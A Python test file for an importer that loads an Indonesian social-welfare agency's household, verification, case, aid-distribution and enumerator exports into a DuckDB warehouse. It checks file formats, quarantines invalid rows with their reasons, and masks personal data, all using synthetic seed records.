"""warehouse.imports.agency: the agency's own files into the seed warehouse (kota 99.71).

Seed facts used here: kelurahan Alpha 99.71.01.1001 and Beta 99.71.01.1002 in Kecamatan Satu,
desa Gamma 99.71.01.2003 and Delta 99.71.01.2004; household h1 has KK 9971010101260001 and
member a1 (NIK 9971011203800001); cycles S0 (2025) and S1 (2026-01-01..03-31); programme PKH
tahap 2026-T1 (750,000 per KPM) with distribution d1 to h1; enumerator p1.
"""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import duckdb
import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from cryptography.fernet import Fernet
from hypothesis import given, settings
from hypothesis import strategies as st

import queries
from tests.seed import TODAY, seed_db  # noqa: F401
from warehouse import db, users
from warehouse.__main__ import main
from warehouse.imports import agency as ai
from warehouse.imports.read import ImportFileError

ROOT = Path(__file__).resolve().parent.parent

SIKS_HEADER = [
    "ID DTKS",
    "PROVINSI",
    "KABUPATEN/KOTA",
    "KECAMATAN",
    "DESA/KELUARAHAN",
    "ALAMAT",
    "DUSUN",
    "RT",
    "RW",
    "NOMOR KK",
    "NOMOR NIK",
    "NAMA",
    "TANGGAL LAHIR",
    "TEMPAT LAHIR",
    "JENIS KELAMIN",
    "PEKERJAAN",
    "NAMA IBU KANDUNG",
    "HUBUNGAN KELUARGA",
    "KETERANGAN PADAN",
    "BANSOS BPNT",
    "BANSOS PKH",
    "BANSOS BPNT-PPKM",
    "PBI JKN",
]


def siks_row(
    id_dtks,
    kel,
    kk,
    nik,
    nama,
    lahir,
    jk,
    hub,
    padan="PADAN",
    bpnt="TIDAK",
    pkh="YA",
    pbi="TIDAK",
    kec="KECAMATAN SATU",
    alamat="Jl. Uji",
):
    return [
        id_dtks,
        "PROVINSI UJI",
        "KOTA UJI",
        kec,
        kel,
        alamat,
        "",
        "001",
        "002",
        kk,
        nik,
        nama,
        lahir,
        "Kota Uji",
        jk,
        "BURUH",
        "IBU",
        hub,
        padan,
        bpnt,
        pkh,
        "TIDAK",
        pbi,
    ]


GOOD_ROWS = [
    siks_row(
        "D1",
        "KEL. ALPHA",
        "9971010101250001",
        "9971011505800001",
        "Budi Santoso",
        "15/05/1980",
        "LAKI-LAKI",
        "KEPALA KELUARGA",
    ),
    siks_row(
        "D1",
        "KEL. ALPHA",
        "9971010101250001",
        "9971015505820002",
        "Ani Lestari",
        "1982-05-15",
        "PEREMPUAN",
        "ISTRI",
        padan="TIDAK PADAN",
    ),
    siks_row(
        "D2",
        "Beta",
        "9971010101250002",
        "9971010107900003",
        "Candra",
        "01/07/1990",
        "L",
        "KEPALA KELUARGA",
        bpnt="YA",
        pkh="TIDAK",
    ),
]


def write_csv(path: Path, header, rows, delimiter=";", encoding="utf-8") -> Path:
    with open(path, "w", newline="", encoding=encoding) as handle:
        writer = csv.writer(handle, delimiter=delimiter, quoting=csv.QUOTE_MINIMAL)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def write_xlsx(path: Path, header, rows, sheet="DTKS") -> Path:
    book = openpyxl.Workbook()
    ws = book.active
    ws.title = sheet
    ws.append(header)
    for row in rows:
        ws.append(row)
    book.save(path)
    return path


@pytest.fixture
def warehouse(seed_db, tmp_path) -> Path:
    """A private copy of the seed warehouse to write to."""
    path = tmp_path / "w.duckdb"
    shutil.copyfile(seed_db, path)
    return path


def run_import(path: Path, kind: str, file: Path, **kwargs) -> ai.ImportResult:
    with db.atomic_update(path) as con:
        result = ai.import_file(con, kind, file, today=TODAY, **kwargs)
        if not result.changed:
            raise db.Unchanged
    return result


def rows(path: Path, sql: str) -> list[tuple]:
    con = duckdb.connect(str(path), read_only=True)
    try:
        return con.execute(sql).fetchall()
    finally:
        con.close()


def quarantine(path: Path) -> list[tuple]:
    return rows(path, queries.load("tests/agency_import/quarantine_rows"))


MEMBERS_D = queries.load("tests/agency_import/members_d")
HOUSEHOLDS_D = queries.load("tests/agency_import/households_d")
EXPECTED_MEMBERS = [
    ("AG-00000001", "D1", "9971011505800001", "Budi Santoso", "1980-05-15", "L", "kepala_keluarga", "padan"),
    ("AG-00000002", "D1", "9971015505820002", "Ani Lestari", "1982-05-15", "P", "pasangan", "tidak_padan"),
    ("AG-00000003", "D2", "9971010107900003", "Candra", "1990-07-01", "L", "kepala_keluarga", "padan"),
]
EXPECTED_HOUSEHOLDS = [
    ("D1", "9971010101250001", "99.71.01.1001", "Jl. Uji", "001", "002", True, False, False, "aktif"),
    ("D2", "9971010101250002", "99.71.01.1002", "Jl. Uji", "001", "002", False, True, False, "aktif"),
]


# --- formats and header variants ---------------------------------------------------------


def test_siks_ng_export_loads_households_and_members(warehouse, tmp_path):
    result = run_import(warehouse, "dtks", write_csv(tmp_path / "dtks.csv", SIKS_HEADER, GOOD_ROWS))
    assert (result.rows_read, result.rows_loaded, result.rows_quarantined) == (3, 3, 0)
    assert result.added == {"dtks_keluarga": 2, "dtks_anggota": 3}
    assert rows(warehouse, MEMBERS_D) == EXPECTED_MEMBERS
    assert rows(warehouse, HOUSEHOLDS_D) == EXPECTED_HOUSEHOLDS
    assert sorted(result.mapping.not_stored) == sorted(
        ["PROVINSI", "KABUPATEN/KOTA", "DUSUN", "PEKERJAAN", "NAMA IBU KANDUNG", "BANSOS BPNT-PPKM"]
    )
    assert result.mapping.columns["DESA/KELUARAHAN"] == "kelurahan"
    log = rows(warehouse, queries.load("tests/agency_import/import_log_counts"))
    assert log == [("dtks", "dtks.csv", 3, 3, 0)]


@pytest.mark.parametrize("variant", ["comma_utf8_bom", "pipe_cp1252", "xlsx", "parquet", "semicolon_quoted"])
def test_every_format_gives_the_same_records(warehouse, tmp_path, variant):
    header, body = SIKS_HEADER, [list(r) for r in GOOD_ROWS]
    if variant == "comma_utf8_bom":
        file = write_csv(tmp_path / "d.csv", header, body, ",", "utf-8-sig")
    elif variant == "pipe_cp1252":
        body[0][5] = "Jl. Uji"
        file = write_csv(tmp_path / "d.csv", header, body, "|", "cp1252")
    elif variant == "semicolon_quoted":
        file = tmp_path / "d.csv"
        file.write_text(
            ";".join(f'"{h}"' for h in header) + "\n" + "\n".join(";".join(f'"{v}"' for v in r) for r in body) + "\n",
            encoding="utf-8",
        )
    elif variant == "xlsx":
        file = write_xlsx(tmp_path / "d.xlsx", header, body)
    else:
        file = tmp_path / "d.parquet"
        pq.write_table(pa.table({h: [r[i] for r in body] for i, h in enumerate(header)}), file)
    result = run_import(warehouse, "dtks", file)
    assert (result.rows_loaded, result.rows_quarantined) == (3, 0)
    assert rows(warehouse, MEMBERS_D) == EXPECTED_MEMBERS
    assert rows(warehouse, HOUSEHOLDS_D) == EXPECTED_HOUSEHOLDS


def test_windows_1252_names_are_kept(warehouse, tmp_path):
    body = [list(r) for r in GOOD_ROWS]
    body[2][11] = "Candra Müller–Sé"
    result = run_import(warehouse, "dtks", write_csv(tmp_path / "d.csv", SIKS_HEADER, body, ";", "cp1252"))
    assert result.rows_loaded == 3
    assert rows(warehouse, queries.load("tests/agency_import/name_of_d2")) == [("Candra Müller–Sé",)]


def test_xlsx_typed_cells_and_chosen_sheet(warehouse, tmp_path):
    import datetime as dt

    book = openpyxl.Workbook()
    book.active.title = "Petunjuk"
    book.active.append(["Isi lembar DTKS"])
    ws = book.create_sheet("DTKS")
    ws.append(
        [
            "ID DTKS",
            "KECAMATAN",
            "KELURAHAN",
            "NOMOR KK",
            "NOMOR NIK",
            "NAMA",
            "TANGGAL LAHIR",
            "JENIS KELAMIN",
            "HUBUNGAN KELUARGA",
        ]
    )
    # NIK and KK as text cells: as numbers, Excel keeps only 15 significant digits.
    ws.append(
        [
            "D1",
            "Kecamatan Satu",
            "Alpha",
            "9971010101250001",
            "9971011505800001",
            "Budi",
            dt.datetime(1980, 5, 15),
            "L",
            1,
        ]
    )
    book.save(tmp_path / "d.xlsx")
    result = run_import(warehouse, "dtks", tmp_path / "d.xlsx", sheet="DTKS")
    assert result.rows_loaded == 1
    assert rows(warehouse, MEMBERS_D) == [
        ("AG-00000001", "D1", "9971011505800001", "Budi", "1980-05-15", "L", "kepala_keluarga", "belum"),
    ]


def test_numbers_typed_as_numbers_in_excel_are_flagged(warehouse, tmp_path):
    book = openpyxl.Workbook()
    book.active.append(["ID DTKS", "KELURAHAN", "NOMOR KK", "NOMOR NIK", "NAMA"])
    book.active.append(["D1", "Alpha", 9971010101251235, "9971011505800001", "Budi"])
    book.save(tmp_path / "angka.xlsx")
    result = run_import(warehouse, "dtks", tmp_path / "angka.xlsx")
    assert result.warnings == [("excel_long_numbers", "NOMOR KK")]
    assert "  warning: 16-digit numbers stored as numbers in Excel" in "\n".join(result.lines())
    # Stored as a double, the KK came back changed and still passes its structure check.
    assert rows(warehouse, queries.load("tests/agency_import/kk_of_d1")) == [(str(int(float(9971010101251235))),)]
    assert str(int(float(9971010101251235))) != "9971010101251235"


def test_a_warehouse_without_code_list_says_so(tmp_path):
    result = run_import(tmp_path / "new.duckdb", "dtks", write_csv(tmp_path / "d.csv", SIKS_HEADER, GOOD_ROWS))
    assert result.warnings == [("no_code_list", "")]
    assert {r.alasan for r in result.report.itertuples()} == {"kecamatan_unknown"}
    assert (result.rows_loaded, result.rows_quarantined) == (0, 3)


def test_proposal_template_joins_known_households_by_kk(warehouse, tmp_path):
    header = [
        "NIK",
        "PROGRAM BANSOS",
        "NOKK",
        "NAMA",
        "TEMPAT LAHIR",
        "TANGGAL LAHIR (31/01/2000)",
        "IBU KANDUNG",
        "JENIS KELAMIN",
        "ALAMAT",
        "KECAMATAN",
        "KELURAHAN",
    ]
    body = [
        # A new member of seed household h1, found by its KK.
        [
            "9971014101100007",
            "PKH",
            "9971010101260001",
            "Dewi Anak",
            "Kota Uji",
            "01/01/2010",
            "Ibu",
            "P",
            "Jl. A",
            "Kecamatan Satu",
            "Alpha",
        ],
        # A household not in the warehouse: its id becomes KK + number.
        [
            "9971010202950008",
            "BPNT, PBI-JKN",
            "9971010101250009",
            "Eko",
            "Kota Uji",
            "02/02/1995",
            "Ibu",
            "L",
            "Jl. B",
            "Kec. Satu",
            "Beta",
        ],
    ]
    result = run_import(warehouse, "dtks", write_csv(tmp_path / "usulan.csv", header, body, ","))
    assert (result.rows_loaded, result.rows_quarantined) == (2, 0)
    assert rows(
        warehouse,
        queries.load("tests/agency_import/members_of_two_niks"),
    ) == [
        # A surrogate id, never the KK number.
        ("KB-00000001", "9971010202950008", "L", "lainnya"),
        ("h1", "9971014101100007", "P", "lainnya"),
    ]
    assert rows(
        warehouse,
        queries.load("tests/agency_import/households_h1_kb1"),
    ) == [
        ("KB-00000001", "99.71.01.1002", False, True, True, None),
        # h1 keeps its desil; PKH from the proposal is set.
        ("h1", "99.71.01.1001", True, False, False, 1),
    ]


def test_mapping_file_for_other_headers_and_values(warehouse, tmp_path):
    mapping = tmp_path / "m.yaml"
    mapping.write_text(
        "columns:\n  No Kasus TRC: id_kasus\n  Masalah: kategori\n  Dari: sumber\n  Jam Lapor: waktu_lapor\n"
        "values:\n  kategori:\n    Keluarga Berumah Tak Layak Huni: fakir_miskin\n",
        encoding="utf-8",
    )
    file = write_csv(
        tmp_path / "trc.csv",
        ["No Kasus TRC", "Masalah", "Dari", "Jam Lapor", "Kode Desa"],
        [["T1", "Keluarga berumah tak layak huni", "Call Center", "03/02/2026 21:15", "9971011002"]],
        ",",
    )
    result = run_import(warehouse, "pmks", file, mapping_file=mapping)
    assert result.rows_loaded == 1
    assert rows(
        warehouse,
        queries.load("tests/agency_import/case_t1"),
    ) == [
        ("T1", "fakir_miskin", "call_center", "2026-02-03 21:15:00", "99.71.01.1002", "dilaporkan"),
    ]


# --- every kind of bad row ---------------------------------------------------------------


def test_every_kind_of_bad_dtks_row_is_quarantined_with_its_reason(warehouse, tmp_path):
    good = GOOD_ROWS
    bad = [
        siks_row(
            "B1", "Alpha", "9971010101250011", "997101150580001", "Short", "15/05/1980", "L", "KEPALA KELUARGA"
        ),  # 4
        siks_row(
            "B2", "Alpha", "9971010101250012", "0571011505800001", "Region", "15/05/1980", "L", "KEPALA KELUARGA"
        ),  # 5
        siks_row(
            "B3", "Alpha", "9971010101250013", "9971013502800001", "NoDay", "15/05/1980", "L", "KEPALA KELUARGA"
        ),  # 6
        siks_row(
            "B4", "Alpha", "9971010101250014", "9971011505800000", "Serial", "15/05/1980", "L", "KEPALA KELUARGA"
        ),  # 7
        siks_row(
            "B5", "Alpha", "99710101012500", "9971011505800005", "ShortKK", "15/05/1980", "L", "KEPALA KELUARGA"
        ),  # 8
        siks_row(
            "B6", "Alpha", "9971013202250016", "9971011505800006", "KKDate", "15/05/1980", "L", "KEPALA KELUARGA"
        ),  # 9
        siks_row("B7", "Alpha", "9971010101250017", "9971011505800007", "", "15/05/1980", "L", "KEPALA KELUARGA"),  # 10
        siks_row(
            "B8", "Alpha", "9971010101250018", "9971011505800008", "BadDate", "30/02/1980", "L", "KEPALA KELUARGA"
        ),  # 11
        siks_row(
            "B9", "Alpha", "9971010101250019", "9971011505800009", "Future", "01/01/2030", "L", "KEPALA KELUARGA"
        ),  # 12
        siks_row(
            "C1", "Omega", "9971010101250021", "9971011505800010", "NoKel", "15/05/1980", "L", "KEPALA KELUARGA"
        ),  # 13
        siks_row(
            "C2",
            "Alpha",
            "9971010101250022",
            "9971011505800011",
            "NoKec",
            "15/05/1980",
            "L",
            "KEPALA KELUARGA",
            kec="Kecamatan Sembilan",
        ),  # 14
        siks_row("C3", "", "9971010101250023", "9971011505800012", "Blank", "15/05/1980", "L", "KEPALA KELUARGA"),  # 15
        siks_row(
            "C4", "Alpha", "9971010101250024", "9971011505800013", "Sex", "15/05/1980", "X", "KEPALA KELUARGA"
        ),  # 16
        siks_row("C5", "Alpha", "9971010101250025", "9971011505800014", "Rel", "15/05/1980", "L", "TETANGGA"),  # 17
        siks_row(
            "C6",
            "Alpha",
            "9971010101250026",
            "9971011505800015",
            "Padan",
            "15/05/1980",
            "L",
            "KEPALA KELUARGA",
            padan="MUNGKIN",
        ),  # 18
        siks_row(
            "C7",
            "Alpha",
            "9971010101250027",
            "9971011505800016",
            "Flag",
            "15/05/1980",
            "L",
            "KEPALA KELUARGA",
            pkh="KADANG",
        ),  # 19
        # The same member as row 1 again.
        GOOD_ROWS[0],  # 20
        # Household D2 with another KK than its first row.
        siks_row("D2", "Beta", "9971010101250099", "9971010107900017", "OtherKK", "01/07/1990", "L", "ANAK"),  # 21
        # Household D2 in another kelurahan than its first row.
        siks_row("D2", "Alpha", "9971010101250002", "9971010107900018", "OtherKel", "01/07/1990", "L", "ANAK"),  # 22
        # Seed household h1's KK under another ID DTKS.
        siks_row(
            "C8", "Alpha", "9971010101260001", "9971011505800019", "KnownKK", "15/05/1980", "L", "KEPALA KELUARGA"
        ),  # 23
    ]
    file = write_csv(tmp_path / "bad.csv", SIKS_HEADER, [*good, *bad])
    with open(file, "a", encoding="utf-8") as handle:
        handle.write("D9;too;few;fields\n")  # 24
    result = run_import(warehouse, "dtks", file)
    assert quarantine(warehouse) == [
        (4, "nik_not_16_digits", "nik"),
        (5, "nik_region", "nik"),
        (6, "nik_date", "nik"),
        (7, "nik_serial", "nik"),
        (8, "kk_not_16_digits", "no_kk"),
        (9, "kk_date", "no_kk"),
        (10, "missing_value", "nama"),
        (11, "date_invalid", "tanggal_lahir"),
        (12, "date_out_of_range", "tanggal_lahir"),
        (13, "kelurahan_unknown", "kelurahan"),
        (14, "kecamatan_unknown", "kecamatan"),
        (15, "missing_value", "kelurahan"),
        (16, "enum_unknown", "jenis_kelamin"),
        (17, "enum_unknown", "hubungan"),
        (18, "enum_unknown", "status_padan"),
        (19, "enum_unknown", "flag_pkh"),
        (20, "duplicate_in_file", "nik"),
        (21, "household_inconsistent", "no_kk"),
        (22, "household_inconsistent", "kelurahan"),
        (23, "duplicate_in_warehouse", "no_kk"),
        (24, "malformed_row", None),
    ]
    assert (result.rows_read, result.rows_loaded, result.rows_quarantined) == (24, 3, 21)
    assert rows(warehouse, MEMBERS_D) == EXPECTED_MEMBERS
    assert rows(warehouse, queries.load("tests/agency_import/import_log_rows")) == [(24, 3, 21)]
    # The report: one line per reason and column, examples masked.
    by_reason = {(r.alasan, r.kolom): r for r in result.report.itertuples()}
    first = by_reason[("nik_not_16_digits", "nik")]
    assert (first.header, first.rows_count, first.first_row) == ("NOMOR NIK", 1, 4)
    assert first.examples[0]["nik"] == "***********0001" and first.examples[0]["nama"] == "S."
    assert first.examples[0]["no_kk"] == "************0011"
    # A record that does not split into columns is described, never quoted.
    assert by_reason[("malformed_row", None)].examples[0] == {
        "nomor_baris": 24,
        "detail": "4 fields where the header has 23",
    }
    unmatched = result.names.set_index("kelurahan")
    assert unmatched.loc["Omega", "match"] == "unmatched"


def test_report_lines_and_excel_mask_personal_data(warehouse, tmp_path):
    bad = [
        siks_row("B1", "Alpha", "9971010101250011", "9971011505800000", "Siti Nur Aisyah", "15/05/1980", "P", "ISTRI")
    ]
    result = run_import(warehouse, "dtks", write_csv(tmp_path / "bad.csv", SIKS_HEADER, [*GOOD_ROWS, *bad]))
    text = "\n".join(result.lines())
    assert "1 rows: NIK: serial (digits 13-16) is 0000 [NOMOR NIK] (first: row 4)" in text
    assert "9971011505800000" not in text and "Siti Nur Aisyah" not in text
    assert "nik=************0000" in text and "nama=S. N. A." in text
    book = openpyxl.load_workbook(io.BytesIO(ai.report_excel(result)))
    summary = [tuple(r) for r in book["summary"].iter_rows(values_only=True)]
    assert summary[1] == ("bad.csv", "dtks", 4, 3, 1)
    assert summary[4] == (ai.REASONS["nik_serial"], "nik_serial", "NOMOR NIK", 1, 4)
    examples = list(book["examples"].iter_rows(values_only=True))
    cells = dict(zip(examples[0], examples[1]))
    assert cells["nik"] == "************0000" and cells["nama"] == "S. N. A." and cells["nomor_baris"] == 4


def test_verivali_results(warehouse, tmp_path):
    header = ["ID DTKS", "TANGGAL KUNJUNGAN", "HASIL", "ID PETUGAS", "TAHAP", "SIKLUS"]
    body = [
        ["h3", "12/02/2026", "Ditemukan", "p1", "", ""],  # 1 new ground check in S1 (by date)
        ["h1", "2026-02-15", "Pindah", "p1", "Ground Check", "S1"],  # 2 updates seed row 2
        ["hX", "12/02/2026", "Ditemukan", "p1", "", ""],  # 3 unknown household
        ["h4", "30/02/2026", "Ditemukan", "p1", "", ""],  # 4 impossible date
        ["h4", "12/02/2026", "Entah", "p1", "", ""],  # 5 unknown result
        ["h4", "12/02/2024", "Ditemukan", "p1", "", ""],  # 6 no cycle covers the date
        ["h4", "12/02/2026", "", "p1", "", "S9"],  # 7 unknown cycle
        ["h3", "13/02/2026", "Ditemukan", "p1", "", ""],  # 8 same step as row 1
        ["h5", "13/02/2026", "", "", "Musdes", ""],  # 9 pending proposal
    ]
    result = run_import(warehouse, "verivali", write_csv(tmp_path / "v.csv", header, body, ","))
    assert quarantine(warehouse) == [
        (3, "household_unknown", "id_dtks"),
        (4, "date_invalid", "tanggal"),
        (5, "enum_unknown", "hasil"),
        (6, "cycle_unknown", "tanggal"),
        (7, "cycle_unknown", "siklus"),
        (8, "duplicate_in_file", "tahap"),
    ]
    assert result.added == {"verivali": 2}
    assert rows(
        warehouse,
        queries.load("tests/agency_import/verivali_2_9_10"),
    ) == [
        (2, "h1", "S1", "ground_check", "2026-02-15", "p1", "pindah"),
        (9, "h3", "S1", "ground_check", "2026-02-12", "p1", "diperbarui"),
        (10, "h5", "S1", "usulan_musyawarah", "2026-02-13", None, None),
    ]


def test_verivali_desil_assignments(warehouse, tmp_path):
    header = ["ID DTKS", "TANGGAL", "TAHAP", "DESIL", "SIKLUS"]
    body = [
        ["h3", "12/02/2026", "Penetapan desil", "5", "S1"],  # 1 a desil step
        ["h4", "12/02/2026", "", "4", "S1"],  # 2 no TAHAP: a desil step for its desil
        ["h5", "12/02/2026", "Penetapan desil", "11", "S1"],  # 3 out of range
        ["h1", "12/02/2026", "Ground check", "3", "S1"],  # 4 a desil on another step
    ]
    run_import(warehouse, "verivali", write_csv(tmp_path / "d.csv", header, body, ","))
    assert quarantine(warehouse) == [(3, "number_invalid", "desil"), (4, "desil_wrong_step", "desil")]
    assert rows(warehouse, queries.load("tests/agency_import/verivali_desil")) == [
        ("h3", "desil", 5),
        ("h4", "desil", 4),
    ]


def test_pmks_cases(warehouse, tmp_path):
    header = [
        "NO LAPORAN",
        "JENIS PMKS",
        "SUMBER LAPORAN",
        "TANGGAL LAPOR",
        "WAKTU TIBA",
        "KECAMATAN",
        "KELURAHAN",
        "JENIS KELAMIN",
        "USIA",
        "STATUS KASUS",
        "HASIL PENANGANAN",
        "LATITUDE",
        "LONGITUDE",
    ]
    body = [
        [
            "k1",
            "ODGJ",
            "Call Center",
            "01/02/2026 22:00",
            "01/02/2026 22:40",
            "Kecamatan Satu",
            "Alpha",
            "P",
            "40",
            "Selesai",
            "Dirawat",
            "0,005",
            "100,005",
        ],
        ["k2", "Anak Jalanan", "Patroli", "2026-02-10 09:00", "", "", "Beta", "L", "12", "", "", "", ""],
        ["k3", "Pengamen", "Patroli", "2026-02-10 09:00", "", "", "Beta", "", "", "", "", "", ""],
        ["k4", "Pengemis", "Burung", "2026-02-10 09:00", "", "", "Beta", "", "", "", "", "", ""],
        ["k5", "Pengemis", "Patroli", "2026-02-10 09:00", "2026-02-10 08:00", "", "Beta", "", "", "", "", "", ""],
        ["k6", "Pengemis", "Patroli", "2026-02-10 09:00", "", "", "Beta", "", "130", "", "", "", ""],
        ["k7", "Pengemis", "Patroli", "10/02/2026", "", "", "", "", "", "", "", "", "181"],
        ["k2", "Pengemis", "Patroli", "2026-02-11 09:00", "", "", "Beta", "", "", "", "", "", ""],
    ]
    result = run_import(warehouse, "pmks", write_csv(tmp_path / "p.csv", header, body, ","))
    assert quarantine(warehouse) == [
        (3, "enum_unknown", "kategori"),
        (4, "enum_unknown", "sumber"),
        (5, "time_order", "waktu_tiba"),
        (6, "number_invalid", "usia"),
        (7, "number_invalid", "lon"),
        (8, "duplicate_in_file", "id_kasus"),
    ]
    assert result.added == {"pmks_kasus": 1}
    assert rows(
        warehouse,
        queries.load("tests/agency_import/cases"),
    ) == [
        (
            "k1",
            "odgj",
            "call_center",
            "2026-02-01 22:00:00",
            "2026-02-01 22:40:00",
            "99.71.01.1001",
            "P",
            40,
            "ditutup",
            "dirawat",
            100.005,
            0.005,
        ),
        (
            "k2",
            "anak_jalanan",
            "patroli",
            "2026-02-10 09:00:00",
            None,
            "99.71.01.1002",
            "L",
            12,
            "dilaporkan",
            None,
            None,
            None,
        ),
    ]


def test_distribution_report(warehouse, tmp_path):
    header = [
        "ID TRANSAKSI",
        "PROGRAM",
        "TAHAP",
        "NIK KPM",
        "NOMINAL",
        "TANGGAL TRANSAKSI",
        "KANAL",
        "DOKUMEN",
        "HARGA",
    ]
    body = [
        [
            "d1",
            "pkh",
            "2026-T1",
            "9971011203800001",
            "Rp 750.000",
            "10/02/2026",
            "BRI",
            "BAST, Foto, KTP",
            "",
        ],  # update
        ["d2", "PKH", "2026-T1", "9971010101900003", "700000", "11/02/2026", "PT Pos", "", ""],  # h2
        ["d3", "BLT", "2026-T1", "9971010101900003", "700000", "11/02/2026", "Pos", "", ""],
        ["d4", "PKH", "2026-T9", "9971010101900003", "700000", "11/02/2026", "Pos", "", ""],
        ["d5", "PKH", "2026-T1", "9971010101700004", "-5", "11/02/2026", "Pos", "", ""],
        ["d6", "PKH", "2026-T1", "9971010101700004", "tujuh ratus", "11/02/2026", "Pos", "", ""],
        ["d7", "PKH", "2026-T1", "9971019999999999", "700000", "11/02/2026", "Pos", "", ""],
        ["d8", "PKH", "2026-T1", "9971010101700004", "700000", "11/02/2026", "Pos", "BAST, Surat", ""],
        ["d9", "PKH", "2026-T1", "9971010101700004", "700000", "11/02/2026", "Merpati", "", ""],
        ["d10", "PKH", "2026-T1", "9971011203800001", "700000", "11/02/2026", "Pos", "", ""],
        ["d11", "PKH", "2026-T1", "9971010101750005", "700000", "11/02/2026", "Pos", "", "-1"],
        ["d2", "PKH", "2026-T1", "9971010101750005", "700000", "11/02/2026", "Pos", "", ""],
        ["d12", "PKH", "2026-T1", "9971010101900003", "700000", "11/02/2026", "Pos", "", ""],
        ["d13", "PKH", "2026-T1", "9971011203800002", "700000", "11/02/2026", "Pos", "", ""],
    ]
    result = run_import(warehouse, "penyaluran", write_csv(tmp_path / "salur.csv", header, body, ","))
    assert quarantine(warehouse) == [
        (3, "programme_unknown", "kode_program"),
        (4, "tahap_unknown", "tahap"),
        (5, "amount_negative", "nilai_diterima"),
        (6, "amount_invalid", "nilai_diterima"),
        (7, "nik_date", "nik_penerima"),
        (8, "enum_unknown", "dokumen"),
        (9, "enum_unknown", "kanal"),
        (10, "duplicate_in_warehouse", "id_penyaluran"),
        (11, "amount_negative", "harga_dibayar"),
        (12, "duplicate_in_file", "id_penyaluran"),
        (13, "duplicate_in_file", "nik_penerima"),
        (14, "household_unknown", "nik_penerima"),
    ]
    assert result.added == {"bansos_penyaluran": 1}
    assert rows(
        warehouse,
        queries.load("tests/agency_import/distributions"),
    ) == [
        (
            "d1",
            "h1",
            "9971011203800001",
            "99.71.01.1001",
            750000,
            750000,
            "2026-02-10",
            "bank",
            ["bast", "foto", "ktp"],
        ),
        ("d2", "h2", "9971010101900003", "99.71.01.1001", 750000, 700000, "2026-02-11", "pos", []),
    ]


def test_enumerators(warehouse, tmp_path):
    header = ["ID PETUGAS", "NAMA PETUGAS", "PERAN", "KODE DESA", "TANGGAL MULAI", "TANGGAL SELESAI"]
    body = [
        ["p1", "Petugas Uji Baru", "Pendata", "99.71.01.1002", "01/01/2026", ""],
        ["p2", "Petugas Dua", "TKSK", "", "", ""],
        ["p3", "Petugas Tiga", "Camat", "", "", ""],
        ["p4", "Petugas Empat", "", "99.71.01.9001", "", ""],
        ["p5", "Petugas Lima", "", "99.71.01.2009", "", ""],
        ["p6", "Petugas Enam", "", "", "01/03/2026", "01/02/2026"],
    ]
    run_import(warehouse, "petugas", write_csv(tmp_path / "petugas.csv", header, body, ","))
    assert quarantine(warehouse) == [
        (3, "enum_unknown", "peran"),
        (4, "kelurahan_code_invalid", "kode_kelurahan"),
        (5, "kelurahan_unknown", "kode_kelurahan"),
        (6, "time_order", "aktif_sampai"),
    ]
    assert rows(
        warehouse,
        queries.load("tests/agency_import/petugas_rows"),
    ) == [
        ("p1", "Petugas Uji Baru", "enumerator", "99.71.01.1002", "2026-01-01"),
        ("p2", "Petugas Dua", "tksk", None, None),
    ]


# --- same file, newer export, dry run ----------------------------------------------------


def snapshot(path: Path) -> dict:
    tables = (
        "dtks_keluarga",
        "dtks_anggota",
        "impor_log",
        "impor_karantina",
        "verivali",
        "pmks_kasus",
        "bansos_penyaluran",
        "petugas",
    )
    con = duckdb.connect(str(path), read_only=True)
    try:
        return {
            t: sorted(map(str, con.execute(queries.load("tests/agency_import/table_rows"), {"t": t}).fetchall()))
            for t in tables
        }
    finally:
        con.close()


def test_same_file_twice_changes_nothing(warehouse, tmp_path):
    file = write_csv(tmp_path / "dtks.csv", SIKS_HEADER, GOOD_ROWS)
    run_import(warehouse, "dtks", file)
    before, mtime = snapshot(warehouse), warehouse.stat().st_mtime_ns
    again = run_import(warehouse, "dtks", shutil.copyfile(file, tmp_path / "renamed.csv"))
    assert again.already["id_impor"] == 1 and not again.changed
    assert snapshot(warehouse) == before
    assert warehouse.stat().st_mtime_ns == mtime
    assert "nothing changed" in again.lines()[0]


def test_newer_export_updates_instead_of_duplicating(warehouse, tmp_path):
    run_import(warehouse, "dtks", write_csv(tmp_path / "v1.csv", SIKS_HEADER, GOOD_ROWS))
    newer = [list(r) for r in GOOD_ROWS]
    newer[1][11] = "Ani Lestari Putri"
    newer[1][18] = "PADAN"
    newer[2][5] = "Jl. Baru"
    newer.append(siks_row("D2", "Beta", "9971010101250002", "9971014107150004", "Dina", "01/07/2015", "P", "ANAK"))
    result = run_import(warehouse, "dtks", write_csv(tmp_path / "v2.csv", SIKS_HEADER, newer))
    assert result.added == {"dtks_keluarga": 0, "dtks_anggota": 1}
    members = rows(
        warehouse,
        queries.load("tests/agency_import/members_d_names"),
    )
    assert members == [
        ("AG-00000001", "Budi Santoso", "padan"),
        ("AG-00000002", "Ani Lestari Putri", "padan"),
        ("AG-00000003", "Candra", "padan"),
        ("AG-00000004", "Dina", "padan"),
    ]
    assert rows(warehouse, queries.load("tests/agency_import/address_of_d2")) == [("Jl. Baru",)]


def test_an_export_without_a_column_keeps_the_stored_values(warehouse, tmp_path):
    # Seed member a1 of h1 is padan; a list without the padan column must not reset it.
    header = ["ID DTKS", "KELURAHAN", "NOMOR KK", "NOMOR NIK", "NAMA"]
    run_import(
        warehouse,
        "dtks",
        write_csv(
            tmp_path / "d.csv", header, [["h1", "Alpha", "9971010101260001", "9971011203800001", "Uji Satu Baru"]]
        ),
    )
    assert rows(
        warehouse,
        queries.load("tests/agency_import/member_of_nik"),
    ) == [
        ("a1", "Uji Satu Baru", "padan", "1980-03-12", "lainnya"),
    ]
    assert rows(warehouse, queries.load("tests/agency_import/household_h1")) == [(1, False)]


def test_dry_run_writes_nothing(warehouse, tmp_path, capsys):
    before, mtime = snapshot(warehouse), warehouse.stat().st_mtime_ns
    file = write_csv(tmp_path / "dtks.csv", SIKS_HEADER, GOOD_ROWS)
    assert main(["import", "dtks", str(file), "--dry-run", "--db", str(warehouse)]) == 0
    out = capsys.readouterr().out
    assert "Dry run (nothing written)" in out and "3 read, 3 loaded, 0 quarantined" in out
    assert snapshot(warehouse) == before and warehouse.stat().st_mtime_ns == mtime


def test_cli_import_writes_the_excel_report(warehouse, tmp_path, capsys):
